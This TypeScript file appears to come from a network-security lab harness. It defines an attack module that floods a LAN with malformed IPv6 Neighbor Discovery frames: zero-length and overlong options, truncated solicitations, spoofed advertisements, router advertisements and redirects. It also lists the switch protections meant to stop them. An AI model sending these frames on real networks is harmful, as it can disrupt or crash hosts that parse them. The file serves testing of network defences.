// SPDX-License-Identifier: Apache-2.0
import { bytes, concat, ethernet, groupMac, icmp6, ip, mac } from "../../lab/packet.ts";
import type { Attack } from "../attack.ts";
import { flooded, offset, type Scene, type Wave } from "../flooding.ts";

const ALL_NODES = "ff02::1";
const [SOLICITATION, ADVERTISEMENT, ROUTER_ADVERTISEMENT, REDIRECT, SOURCE_LINK] = [135, 136, 134, 137, 1];

export function waves({ attacker, victim, network }: Scene): Wave[] {
  const says = (type: number, source: string, ...body: Uint8Array[]): Uint8Array =>
    ethernet({ from: attacker.mac, to: groupMac(ALL_NODES) }, 0x86dd, icmp6(source, ALL_NODES, concat([bytes(type, 0, 0, 0), ...body])));
  const [flags, target, own] = [bytes(0, 0, 0, 0), ip(victim.v6), mac(attacker.mac)];
  return [
    { what: "an option without length", frame: says(SOLICITATION, attacker.v6, flags, target, bytes(SOURCE_LINK, 0), own), countingAt: offset.ndTarget },
    { what: "an option longer than the packet", frame: says(SOLICITATION, attacker.v6, flags, target, bytes(SOURCE_LINK, 255), own), countingAt: offset.ndTarget },
    { what: "cut short", frame: says(SOLICITATION, attacker.v6, flags, target.subarray(0, 8)), countingAt: 64 },
    { what: "about addresses of nobody, as who wants them", frame: says(SOLICITATION, "::", flags, ip(`${network.prefix6.replace(/::\/64$/, "")}::7:0`)), countingAt: offset.ndTarget },
    { what: "advertisements of everything", frame: says(ADVERTISEMENT, attacker.v6, bytes(0x20, 0, 0, 0), target, bytes(2, 1), own), countingAt: offset.ndTarget },
    { what: "router advertisements cut short", frame: says(ROUTER_ADVERTISEMENT, attacker.v6, bytes(64, 0, 0, 0)), countingAt: 58 },
    { what: "redirects with an option of no length", frame: says(REDIRECT, attacker.v6, flags, target, target, bytes(4, 0)), countingAt: offset.ndTarget },
  ];
}

export const floodMalformedNd: Attack = {
  slug: "flood-malformed-nd",
  needs: "a place on the network",
  gains: "every station receives and reads each of them; a program that reads them may fail",
  stoppedBy: "the switch answers solicitations itself and drops advertisements to groups, RA and redirects of stations; what is held for the gateway (claims of an address) is metered for each device",
  takesVictim: true,
  run: async (field) => {
    try {
      return await flooded(field, waves(field));
    } finally {
      await field.attacker.restore();
    }
  },
};
